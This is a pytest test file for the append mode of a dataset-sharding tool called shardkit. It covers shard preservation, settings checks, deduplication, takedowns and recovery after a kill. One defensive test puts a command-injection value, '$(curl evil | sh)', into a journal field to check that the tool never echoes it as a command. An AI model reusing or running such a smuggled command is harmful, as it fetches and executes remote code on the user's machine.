"""`shardkit pack SRC OUT --append`: a source's new inputs become new shards after an output's own,
in every format. The old shards stay byte for byte, numbering continues, the output's settings are
kept (a flag that would change one is refused before any work), what the output holds already is
skipped and counted, a key the output holds for other bytes is refused unless prefixed, class names
merge by name, a takedown stays taken down, verify passes and the reader reads old and new records.
A kill at any step, then the same append again, gives the bytes of an append never killed."""

from __future__ import annotations

import json
import shutil
import sys
from dataclasses import replace
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from shardkit.changes.append import append
from shardkit.changes.remove import remove
from shardkit.checks.duplicates import find_duplicates
from shardkit.checks.verify import verify
from shardkit.core.config import ClipConfig, EncodeConfig, PackConfig, ResizeConfig, TableConfig
from shardkit.core.errors import ConfigError, OutputError
from shardkit.core.manifest import read_manifest, sha256_file
from shardkit.formats import available_formats, get_format
from shardkit.packing.pack import pack
from shardkit.readers import open_shards
from shardkit.synthetic import make_sample_dataset, write_image
from tests.helpers import stored_records
from tests.step_kills import every_step_finishes
from tests.test_pack_kills import snapshot


def _copy(packed_sample, format: str, tmp_path: Path) -> Path:
    out = tmp_path / "out"
    shutil.copytree(packed_sample(format, 64, 7), out)
    return out


def _records(out: Path) -> list[tuple[str, int | None, bytes]]:
    return [(record.key, record.label, record.data) for _, record in stored_records(out)]


@pytest.fixture(scope="module")
def week_two(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A second collection: 20 images in 5 classes (one the output lacks), keys like the output's
    own (n00001000/img_00000) for other pictures, and a corrupt file."""
    return make_sample_dataset(tmp_path_factory.mktemp("week2") / "src", 20, classes=5, seed=9)


@pytest.mark.parametrize("format", available_formats())
def test_an_append_adds_shards_after_the_old_ones_which_stay_byte_for_byte(
    packed_sample, week_two: Path, format: str, tmp_path: Path
) -> None:
    out = _copy(packed_sample, format, tmp_path)
    before = read_manifest(out)
    old_records = _records(out)
    old_errors = (out / "errors.jsonl").read_bytes()

    result = append(week_two, out, key_prefix="w2/")

    after = read_manifest(out)
    assert after.version == 2 and after.shards[: len(before.shards)] == before.shards
    for shard in before.shards:  # every old shard's file as it was
        assert sha256_file(out / shard.name) == shard.sha256
    new = after.shards[len(before.shards) :]
    last = len(before.shards) - 1
    assert [s.name for s in new] == [f"shard-{last + 1 + i:06d}{get_format(format).suffix}" for i in range(len(new))]
    assert (result.records, result.errors, result.inputs, result.already) == (20, 1, 21, 0)
    assert result.classes_added == ["n00001004"] and after.classes == [*before.classes, "n00001004"]
    assert after.totals["inputs"] == before.totals["inputs"] + 21
    assert after.totals["records"] == before.totals["records"] + 20 == after.records
    assert after.totals["errors"] == before.totals["errors"] + 1
    entry = after.history[-1]
    assert entry["change"] == "append" and entry["source"] == str(week_two) and entry["key_prefix"] == "w2/"
    assert entry["error_rows"] == [before.totals["errors"], before.totals["errors"] + 1]
    assert entry["after"] == before.checksum
    # errors.jsonl: the old rows byte for byte, then the append's
    errors = (out / "errors.jsonl").read_bytes()
    assert errors.startswith(old_errors) and b"corrupt" in errors[len(old_errors) :]
    # the records: the old ones first, as they were; the new ones keyed w2/..., labelled by class name
    records = _records(out)
    assert records[: len(old_records)] == old_records
    appended = records[len(old_records) :]
    assert len(appended) == 20 and all(key.startswith("w2/") for key, _, _ in appended)
    classes = after.classes
    assert all(classes[label] == key.split("/")[1] for key, label, _ in appended)  # (w2/<class>/img_...)
    index = pq.read_table(out / "index.parquet")
    assert index.num_rows == after.records and index.column("key").to_pylist()[-20:] == [k for k, _, _ in appended]
    report = verify(out)
    assert report.ok, report.problems
    dataset = open_shards(out)
    assert len(dataset) == after.records


def test_labels_follow_the_outputs_class_names(packed_sample, tmp_path: Path) -> None:
    """A source whose classes sort otherwise: each keeps its number in the output, a new one follows."""
    out = _copy(packed_sample, "webdataset", tmp_path)
    before = read_manifest(out)
    src = tmp_path / "src"
    for name, seed in (("a-new-class", 1), (before.classes[2], 2)):
        for i in range(3):
            write_image(src / name / f"x{i}.jpg", 80, 60, seed=seed * 10 + i)
    result = append(src, out, key_prefix="more/")
    after = read_manifest(out)
    assert result.classes_added == ["a-new-class"] and after.classes == [*before.classes, "a-new-class"]
    labels = {key.split("/")[1]: label for key, label, _ in _records(out) if key.startswith("more/")}
    assert labels == {"a-new-class": len(before.classes), before.classes[2]: 2}


def test_a_folder_that_grew_appends_only_what_is_new(sample_dataset: Path, tmp_path: Path) -> None:
    src, out = tmp_path / "src", tmp_path / "out"
    shutil.copytree(sample_dataset, src)
    pack(PackConfig(str(src), str(out), resize=ResizeConfig(64), shard_size=16))
    before = read_manifest(out)
    classes = before.classes
    for i in range(5):
        write_image(src / classes[i % len(classes)] / f"new_{i}.jpg", 90, 70, seed=100 + i)

    result = append(src, out)

    # the corrupt file errors.jsonl lists is not listed again: counted with what the output holds
    assert (result.records, result.errors, result.already, result.shards) == (5, 0, before.totals["inputs"], 1)
    after = read_manifest(out)
    assert after.records == before.records + 5 and after.totals["errors"] == before.totals["errors"]
    again = append(src, out)  # nothing new now: no new version
    assert (again.inputs, again.version, again.already) == (0, 2, after.totals["inputs"])
    assert read_manifest(out) == after and verify(out).ok


def test_a_key_held_for_other_bytes_is_refused_before_anything_is_written(
    packed_sample, week_two: Path, tmp_path: Path
) -> None:
    out = _copy(packed_sample, "webdataset", tmp_path)
    before = snapshot(out)
    with pytest.raises(OutputError, match=r"holds other images under \d+ of the new keys .*--key-prefix"):
        append(week_two, out)
    assert snapshot(out) == before and not (out / ".shardkit").exists()


@pytest.mark.parametrize("damage", ["missing shard", "truncated shard", "missing idx"])
def test_an_output_that_does_not_verify_takes_no_append(
    packed_sample, week_two: Path, tmp_path: Path, damage: str
) -> None:
    out = _copy(packed_sample, "webdataset", tmp_path)
    if damage == "missing shard":
        (out / "shard-000002.tar").unlink()
    elif damage == "truncated shard":
        data = (out / "shard-000002.tar").read_bytes()
        (out / "shard-000002.tar").write_bytes(data[:-512])
    else:
        (out / "shard-000001.idx").unlink()
    before = snapshot(out)
    name = "shard-000001.idx" if damage == "missing idx" else "shard-000002.tar"
    said = "missing" if damage.startswith("missing") else r"[\d,]+ bytes, the manifest says [\d,]+"
    with pytest.raises(OutputError, match=rf"/{name}: {said}; an append goes only onto an output that verifies"):
        append(week_two, out, key_prefix="w2/")
    assert snapshot(out) == before and not (out / ".shardkit").exists()


@pytest.mark.parametrize(
    ("options", "said"),
    [
        ({"resize": 128}, "--resize 128: the output was packed with resize 64"),
        ({"format": "lmdb"}, "--format lmdb: the output was packed with format webdataset"),
        ({"quality": 70}, "--quality 70: the output was packed with quality 90"),
        ({"shard_size": 9}, "--shard-size 9: the output was packed with shard size 7"),
        ({"overwrite": True}, "--overwrite would replace it"),
    ],
)
def test_a_flag_that_would_change_the_outputs_settings_is_refused(
    packed_sample, week_two: Path, tmp_path: Path, options: dict, said: str
) -> None:
    out = _copy(packed_sample, "webdataset", tmp_path)
    before = snapshot(out)
    with pytest.raises((ConfigError, OutputError), match=said.replace("(", r"\(")):
        append(week_two, out, key_prefix="w2/", **options)
    assert snapshot(out) == before


def test_the_same_values_as_the_outputs_are_taken(packed_sample, week_two: Path, tmp_path: Path) -> None:
    out = _copy(packed_sample, "webdataset", tmp_path)
    result = append(week_two, out, key_prefix="w2/", resize=64, shard_size=7, workers=1)
    assert result.records == 20


def test_labels_from_another_convention_are_refused(packed_sample, tmp_path: Path) -> None:
    out = _copy(packed_sample, "webdataset", tmp_path)
    flat = tmp_path / "flat"
    write_image(flat / "a.jpg", 80, 60, seed=1)
    with pytest.raises(OutputError, match="its labels are class names, the source's whole numbers"):
        append(flat, out)


@pytest.mark.parametrize("prefix", ["../x", "/x", "a.b", "a//b", "a b"])
def test_a_key_prefix_that_is_not_a_plain_name_is_refused(packed_sample, week_two, tmp_path: Path, prefix) -> None:
    out = _copy(packed_sample, "webdataset", tmp_path)
    with pytest.raises(ConfigError, match="--key-prefix"):
        append(week_two, out, key_prefix=prefix)


def test_a_removed_record_is_not_brought_back_by_an_append(sample_dataset: Path, tmp_path: Path) -> None:
    src, out = tmp_path / "src", tmp_path / "out"
    shutil.copytree(sample_dataset, src)
    pack(PackConfig(str(src), str(out), resize=ResizeConfig(64), shard_size=16))
    taken = [key for key, _, _ in _records(out)][:2]
    remove(out, taken, reason="takedown 12")
    write_image(src / read_manifest(out).classes[0] / "fresh.jpg", 90, 70, seed=7)

    result = append(src, out)

    assert (result.records, result.taken_down) == (1, 2)
    assert not set(taken) & {key for key, _, _ in _records(out)}
    assert verify(out).ok


def test_the_cli_appends_and_says_what_it_did(shardkit, packed_sample, week_two: Path, tmp_path: Path) -> None:
    out = _copy(packed_sample, "webdataset", tmp_path)
    refused = shardkit("pack", week_two, out, "--append", "--resize", "128")
    assert refused.returncode == 1
    assert "the output was packed with resize 64" in " ".join(refused.stderr.split())
    done = shardkit("pack", week_two, out, "--append", "--key-prefix", "w2/", "--json", tmp_path / "a.json")
    assert done.returncode == 0, done.stderr
    said = " ".join(done.stdout.split())
    assert "appended to" in said and "20 of 21 new inputs" in said
    assert json.loads((tmp_path / "a.json").read_text())["records"] == 20
    again = shardkit("pack", week_two, out, "--append", "--key-prefix", "w2/")
    assert again.returncode == 0 and "still version 2" in " ".join(again.stdout.split()), again.stderr
    alone = shardkit("pack", week_two, tmp_path / "other", "--key-prefix", "w2/")
    assert alone.returncode == 1 and "--key-prefix is for --append" in alone.stderr


def test_a_pack_or_remove_is_refused_while_an_append_is_unfinished(
    shardkit, packed_sample, sample_dataset, week_two, tmp_path
) -> None:
    out = _copy(packed_sample, "webdataset", tmp_path)
    (out / ".shardkit").mkdir()
    journal = {"action": "append", "request": "r", "base": "b", "version": 2, "moves": [], "deletes": [],
               "plan": {"source": str(week_two), "key_prefix": "", "first_shard": 9}, "result": ""}  # fmt: skip
    (out / ".shardkit" / "change.json").write_text(json.dumps(journal))
    packed = shardkit("pack", sample_dataset, out, "--resize", "64", "--shard-size", "7", "--resume")
    said = " ".join(packed.stderr.split())
    assert packed.returncode == 1 and f"`shardkit pack {week_two} {out} --append`" in said, said
    (tmp_path / "keys.txt").write_text("k\n")
    other = shardkit("remove", out, "--keys", tmp_path / "keys.txt", "--reason", "x")
    assert other.returncode == 1 and "an interrupted 'append' to version 2" in " ".join(other.stderr.split())
    another = shardkit("pack", sample_dataset, out, "--append")
    assert another.returncode == 1 and "another append was interrupted here" in " ".join(another.stderr.split())


@pytest.mark.slow  # kills an append at each of its steps
def test_an_append_killed_at_any_step_finishes_to_the_clean_append(
    shardkit, packed_sample, week_two: Path, tmp_path: Path
) -> None:
    from tests.test_remove import _killed

    source = packed_sample("webdataset", 64, 30)  # (few shards: each of its steps is a run)
    flags = [str(week_two), "--append", "--key-prefix", "w2/", "--workers", "1"]
    clean, out = tmp_path / "clean", tmp_path / "out"
    shutil.copytree(source, clean)
    done = shardkit("pack", flags[0], clean, *flags[1:])
    assert done.returncode == 0, done.stderr
    command = [sys.executable, "-m", "shardkit", "pack", flags[0], str(out), *flags[1:]]
    failed = every_step_finishes(
        out, source, command, lambda: shardkit("pack", flags[0], out, *flags[1:]), snapshot(clean),
        tmp_path / "hook", checked=_killed,
    )  # fmt: skip
    assert not failed, "\n".join(failed)


def test_verify_source_accounts_for_each_source_of_an_appended_output(
    packed_sample, sample_dataset: Path, week_two: Path, tmp_path: Path
) -> None:
    out = _copy(packed_sample, "webdataset", tmp_path)
    append(week_two, out, key_prefix="w2/")
    for source in (sample_dataset, week_two):
        report = verify(out, source=source)
        assert report.ok, report.problems
        assert any("holds appends (version 2)" in note for note in report.notes)
    grown = tmp_path / "grown"
    shutil.copytree(week_two, grown)
    write_image(grown / "n00001000" / "never_packed.jpg", 80, 60, seed=3)
    report = verify(out, source=grown)
    assert [(p.kind, "never_packed.jpg" in p.detail) for p in report.problems] == [("lost", True)]


def test_a_url_table_folder_that_gains_a_part_appends_only_its_new_rows(tmp_path: Path) -> None:
    """A folder of parts keys its rows by part once it has two (00001-000000000): the rows packed
    before are told by their address, not their key. A row that failed (a 404; a refused
    connection, which may pass) is not listed again by the next append."""
    from tests.servers import free_port, http_server

    site = tmp_path / "site"
    for i in range(4):
        write_image(site / f"img_{i}.jpg", 90, 70, seed=i)
    with http_server(site) as url:
        parts, out = tmp_path / "parts", tmp_path / "out"
        parts.mkdir()
        dead = f"http://127.0.0.1:{free_port()}/gone.jpg"
        rows = [f"{url}/img_0.jpg", f"{url}/img_1.jpg", f"{url}/missing.jpg", dead]
        (parts / "part-0.csv").write_text("url\n" + "\n".join(rows) + "\n")
        options = {"resize": ResizeConfig(64), "shard_size": 8}
        config = PackConfig(str(parts), str(out), **options)  # type: ignore[arg-type]
        pack(replace(config, web=replace(config.web, retries=0)))
        before = read_manifest(out)
        assert (before.records, before.totals["errors"]) == (2, 2)
        (parts / "part-1.csv").write_text(f"url\n{url}/img_2.jpg\n{url}/img_3.jpg\n")

        result = append(parts, out, retries=0)

        assert (result.records, result.errors, result.already) == (2, 0, 4)
        sources = pq.read_table(out / "index.parquet").column("source").to_pylist()
        assert sorted(sources) == sorted(f"{url}/img_{i}.jpg" for i in range(4))
        again = append(parts, out, retries=0)
        assert (again.inputs, again.version) == (0, 2)
        assert verify(out).ok


def test_an_output_packed_from_a_relative_path_is_told_from_any_folder(
    sample_dataset: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shutil.copytree(sample_dataset, tmp_path / "src")
    monkeypatch.chdir(tmp_path)
    pack(PackConfig("src", "out", resize=ResizeConfig(64), shard_size=16))
    monkeypatch.chdir("/")
    result = append(tmp_path / "src", tmp_path / "out")  # the corrupt file: listed by the pack already
    assert (result.inputs, result.version) == (0, 1)


def test_an_output_packed_from_a_table_takes_an_append_with_a_table_of_its_own(tmp_path: Path) -> None:
    first, second = tmp_path / "a", tmp_path / "b"
    for folder, seed in ((first, 1), (second, 2)):
        for i in range(3):
            write_image(folder / f"x{i}.jpg", 80, 60, seed=seed * 10 + i)
        rows = [json.dumps({"file_name": f"x{i}.jpg", "caption": f"picture {seed}-{i}"}) for i in range(3)]
        (folder / "captions.jsonl").write_text("\n".join(rows) + "\n")
    out = tmp_path / "out"
    table = TableConfig(path=str(first / "captions.jsonl"))
    pack(PackConfig(str(first), str(out), resize=ResizeConfig(64), table=table))

    result = append(second, out, key_prefix="b/", table=TableConfig(path=str(second / "captions.jsonl")))

    assert result.records == 3
    texts = [sample.text for sample in open_shards(out)]
    assert texts[-3:] == ["picture 2-0", "picture 2-1", "picture 2-2"]


def test_numbers_a_version_gave_are_never_given_again(packed_sample, week_two: Path, tmp_path: Path) -> None:
    out = _copy(packed_sample, "webdataset", tmp_path)
    before = read_manifest(out)
    last = before.shards[-1]
    keys = [key for key, _, _ in _records(out)][-last.count :]
    remove(out, keys, reason="the last shard's records")  # (the last shard goes)
    append(week_two, out, key_prefix="w2/")
    after = read_manifest(out)
    assert last.name not in {shard.name for shard in after.shards}
    assert after.shards[len(before.shards) - 1].name == f"shard-{len(before.shards):06d}.tar"


def _pending_append(out: Path, src: Path, prefix: str, **plan: object) -> None:
    """A journal of an append begun and interrupted before its commit, as shardkit writes it."""
    import hashlib

    manifest = read_manifest(out)
    request = {"source": str(src), "key_prefix": prefix, "table": None}
    base = {"source": str(src), "key_prefix": prefix, "table": None, "first_shard": len(manifest.shards),
            "keep_versions": False}  # fmt: skip
    journal = {
        "action": "append", "base": manifest.checksum, "version": manifest.version + 1, "moves": [], "deletes": [],
        "request": hashlib.sha256(json.dumps(request, sort_keys=True).encode()).hexdigest(), "result": "",
        "plan": {**base, "already": 0, "taken_down": 0, **plan},
    }  # fmt: skip
    (out / ".shardkit" / "next").mkdir(parents=True)
    (out / ".shardkit" / "change.json").write_text(json.dumps(journal))


def test_a_link_planted_as_the_appends_pack_is_refused(packed_sample, week_two: Path, tmp_path: Path) -> None:
    out = _copy(packed_sample, "webdataset", tmp_path)
    _pending_append(out, week_two, "w2/")
    victim = tmp_path / "victim"
    victim.mkdir()
    (out / ".shardkit" / "next" / "pack").symlink_to(victim)
    with pytest.raises(OutputError, match="is not shardkit's working folder"):
        append(week_two, out, key_prefix="w2/")
    assert list(victim.iterdir()) == []


def test_a_tampered_appends_plan_is_refused(packed_sample, week_two: Path, tmp_path: Path) -> None:
    out = _copy(packed_sample, "webdataset", tmp_path)
    _pending_append(out, week_two, "w2/", first_shard=99)
    with pytest.raises(OutputError, match="the interrupted append's journal does not fit the output"):
        append(week_two, out, key_prefix="w2/")


def test_a_strangers_journal_is_never_offered_as_a_command(shardkit, packed_sample, tmp_path: Path) -> None:
    out = _copy(packed_sample, "webdataset", tmp_path)
    _pending_append(out, tmp_path / "x", "", source="$(curl evil | sh)\x1b[31m\nline")
    refused = shardkit("remove", out, "--resume")
    said = " ".join(refused.stderr.split())
    assert refused.returncode == 1 and "`shardkit pack SOURCE" in said and "curl" not in said, said


def test_the_same_append_with_its_prefix_finishes_an_interrupted_one(
    shardkit, packed_sample, week_two: Path, tmp_path: Path
) -> None:
    out = _copy(packed_sample, "webdataset", tmp_path)
    _pending_append(out, week_two, "w2/")
    other = shardkit("pack", week_two, out, "--append")
    said = " ".join(other.stderr.split())
    assert other.returncode == 1 and f"`shardkit pack {week_two} {out} --append --key-prefix w2/`" in said, said
    done = shardkit("pack", week_two, out, "--append", "--key-prefix", "w2/")
    assert done.returncode == 0 and "an interrupted append finished" in " ".join(done.stdout.split()), done.stderr
    assert verify(out).ok


def test_a_ray_cluster_that_cannot_be_reached_is_refused_before_the_journal(
    packed_sample, week_two: Path, tmp_path: Path
) -> None:
    from tests.servers import free_port

    out = _copy(packed_sample, "webdataset", tmp_path)
    with pytest.raises(Exception, match="Ray"):
        append(week_two, out, key_prefix="w2/", executor="ray", ray_address=f"127.0.0.1:{free_port()}")
    assert not (out / ".shardkit").exists()


@pytest.mark.parametrize("mode", ["exact", "near"])
def test_dedup_compares_the_new_files_with_the_whole_output(sample_dataset: Path, tmp_path: Path, mode: str) -> None:
    """An output packed with --dedup leaves out a new file that copies one of its records (the same
    bytes; with near, the same picture saved again), naming the record, as a pack of both would."""
    from PIL import Image

    out, new = tmp_path / "out", tmp_path / "new"
    pack(PackConfig(str(sample_dataset), str(out), resize=ResizeConfig(64), shard_size=16, dedup=mode))
    first = pq.read_table(out / "index.parquet", columns=["key", "source"]).to_pylist()[0]
    original = sample_dataset / first["source"]
    folder = new / first["source"].split("/")[0]
    folder.mkdir(parents=True)
    shutil.copyfile(original, folder / "same_bytes.jpg")
    with Image.open(original) as image:
        image.convert("RGB").save(folder / "saved_again.jpg", quality=70)
    write_image(folder / "really_new.jpg", 97, 71, seed=4242)

    result = append(new, out)

    rows = [json.loads(line) for line in (out / "errors.jsonl").read_text().splitlines()]
    duplicates = {row["path"].split("/")[-1]: row["duplicate_of"] for row in rows if row["stage"] == "duplicate"}
    expected = {"same_bytes.jpg": first["key"]} | ({"saved_again.jpg": first["key"]} if mode == "near" else {})
    assert duplicates == expected
    assert result.records == 3 - len(expected)
    assert read_manifest(out).totals["duplicates"] == len(expected)
    assert verify(out).ok


def test_near_dedup_finds_copies_of_pictures_packed_as_they_were(sample_dataset: Path, tmp_path: Path) -> None:
    """--encode original keeps a JPEG's bytes without decoding it; with --dedup near its record still
    gets a DCT hash (index.parquet's phash), so an append finds a picture saved again as a near copy
    of it."""
    from PIL import Image

    out, new = tmp_path / "out", tmp_path / "new"
    config = PackConfig(str(sample_dataset), str(out), resize=ResizeConfig(4096), shard_size=16, dedup="near")
    pack(replace(config, encode=EncodeConfig("original")))
    rows = pq.read_table(out / "index.parquet", columns=["key", "source", "phash"]).to_pylist()
    kept = [record.key for _, record in stored_records(out) if record.meta.get("encoding") == "original"]
    assert len(kept) > len(rows) // 2  # (most are kept as they were: no decode, and yet a hash)
    hashed = {row["key"] for row in rows if row["phash"] is not None}
    assert set(kept) <= hashed
    first = next(row for row in rows if row["key"] in kept)
    folder = new / first["source"].split("/")[0]
    folder.mkdir(parents=True)
    with Image.open(sample_dataset / first["source"]) as image:
        image.convert("RGB").save(folder / "saved_again.jpg", quality=70)

    assert append(new, out).records == 0
    errors = [json.loads(line) for line in (out / "errors.jsonl").read_text().splitlines()]
    assert [(row["stage"], row["duplicate_of"]) for row in errors if "saved_again" in row["path"]] == [
        ("duplicate", first["key"])
    ]


def test_videos_append_as_images_do(tmp_path: Path) -> None:
    """An output of clips takes new videos: cut as the output's were (its clip seconds, stride,
    fps, resize), after its shards, which stay byte for byte; the videos it holds (their clips'
    key and sha256) are skipped, one whose every clip `remove` took out stays out, another video
    under a key it holds is refused, and so is a flag that would cut them otherwise."""
    pytest.importorskip("av")
    from shardkit.synthetic import write_video

    src, out, whole = tmp_path / "src", tmp_path / "out", tmp_path / "whole"
    for number in range(5):
        write_video(src / f"c{number % 2}" / f"v{number}.mp4", 96, 64, seconds=1.0, seed=number)
    config = PackConfig(str(src), str(whole), resize=ResizeConfig(32), shard_size=4, clips=ClipConfig(seconds=0.5))
    pack(config)
    first = tmp_path / "first"
    shutil.copytree(src, first)
    for number in (3, 4):
        (first / f"c{number % 2}" / f"v{number}.mp4").unlink()
    pack(replace(config, source=str(first), output=str(out)))
    old = {shard.name: sha256_file(out / shard.name) for shard in read_manifest(out).shards}

    result = append(src, out)

    assert (result.records, result.inputs, result.already, result.clips) == (4, 2, 3, True)
    assert {name: sha256_file(out / name) for name in old} == old
    assert sorted(_records(out)) == sorted(_records(whole))  # the clips a pack of all five makes
    assert verify(out).ok
    assert append(src, out).inputs == 0  # (nothing new)
    with pytest.raises(ConfigError, match=r"--clip-seconds 1\.0: the output was packed with clip seconds 0\.5"):
        append(src, out, clip_seconds=1.0)
    assert find_duplicates([out]).groups == []  # (clips keep their video's sha256: none is a copy of another)
    remove(out, ["c1/v3_000000", "c1/v3_000001"], reason="takedown")
    again = append(src, out)
    assert (again.inputs, again.taken_down) == (0, 1)  # (v3 stays out)
    remove(out, ["c0/v4_000000"], reason="takedown")  # (one clip of v4 out, one left: v4 is still held)
    write_video(src / "c0" / "v4.mp4", 96, 64, seconds=1.0, seed=99)  # another video under v4's key
    with pytest.raises(OutputError, match=r"holds other videos under 1 of the new keys \('c0/v4'\); give the new"):
        append(src, out)
